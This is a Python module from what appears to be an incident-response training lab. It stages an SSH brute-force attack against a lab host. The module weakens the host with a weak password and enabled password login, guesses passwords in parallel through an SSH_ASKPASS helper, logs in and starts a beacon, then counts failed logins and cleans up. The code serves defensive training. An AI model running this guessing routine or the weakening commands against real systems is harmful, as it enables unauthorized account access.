"""The staged attack `brute-force`: passwords guessed over SSH until one is right, then a session and a beacon."""

from __future__ import annotations

from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from irflow.lab.intruder import Intruder, on_host, works
from irflow.lab.lab import Lab
from irflow.lab.model import LabHost
from irflow.lab.password_login import asking
from irflow.lab.vantage import ssh_argv

ACCOUNT = "bob"
PASSWORD = "summer2026"  # noqa: S105 - it is there to be guessed
GUESSES = (
    "123456 password letmein welcome1 qwerty monday1 dragon iloveyou abc123 admin123 football master sunshine "
    "princess changeme superman"
).split()
_LOGIN_S = 15.0

# Answers OpenSSH's question for a password (ssh(1), SSH_ASKPASS).
_ASK = "#!/bin/sh\nprintf '%s\\n' \"$GUESS\"\n"

# Has sshd take passwords or not ($2: yes, no), and waits until it listens again.
TAKE_PASSWORDS = """
listens() { grep -c '^Server listening' /var/log/auth.log || :; }
before=$(listens)
sed -i "s/^PasswordAuthentication .*/PasswordAuthentication $2/" /etc/ssh/sshd_config
kill -HUP "$(cat /run/sshd.pid)"
while [ "$(listens)" -lt $((before + 2)) ]; do sleep 0.02; done
"""
_WEAKEN = 'echo "$1:$3" | chpasswd' + TAKE_PASSWORDS
_STRENGTHEN = 'usermod -p "*" "$1"' + TAKE_PASSWORDS


def weaken(lab: Lab, host: LabHost) -> None:
    """The weakness that was there before: an account with a weak password, and an sshd that takes passwords."""
    on_host(lab, host, _WEAKEN, ACCOUNT, "yes", PASSWORD)


class BruteForce(Intruder):
    """An attack under way on one host that was weakened before."""

    def __init__(self, lab: Lab, host: LabHost) -> None:
        """Guess, log in, start the beacon. Raises LabError when the right password is refused."""
        self.host = host
        self._ask = lab.layout.files / "ask-password"
        super().__init__(lab)

    def _break_in(self) -> None:
        _write_program(self._ask)
        with ThreadPoolExecutor(len(GUESSES)) as pool:
            self.right = [guess for guess, got in zip(GUESSES, pool.map(self._guess, GUESSES), strict=True) if got]
        self.session = self._session(self.host, self._login(PASSWORD))
        self.beacon = self._beacon(self.host, self.session)

    def failures(self) -> int:
        """Failed logins of the attacker that the host's sshd has written down."""
        address = self.lab.attacker_addresses[0]
        wanted = f"Failed password for {ACCOUNT} from {address} "
        return self._on_host(self.host, "cat /var/log/auth.log").decode(errors="replace").count(wanted)

    def can_connect(self, timeout_s: float = 5.0) -> bool:
        """Whether the right password opens the account now."""
        return works(self.lab, self._login(PASSWORD, connect_s=2), timeout_s)

    def clean(self) -> None:
        """Take the password away, and the way in; end the attacker's processes. Twice is fine. Raises LabError."""
        self._on_host(self.host, _STRENGTHEN, ACCOUNT, "no")
        self._end_processes(self.host, ACCOUNT)

    def _guess(self, password: str) -> bool:
        return works(self.lab, self._login(password), _LOGIN_S)

    def _login(self, password: str, connect_s: int = int(_LOGIN_S)) -> Sequence[str]:
        ssh = asking(ssh_argv(self.lab, self.host, "attacker", user=ACCOUNT, connect_s=connect_s))
        return ["env", f"GUESS={password}", f"SSH_ASKPASS={self._ask}", "SSH_ASKPASS_REQUIRE=force", *ssh]


def _write_program(path: Path) -> None:
    path.write_text(_ASK)
    path.chmod(0o755)
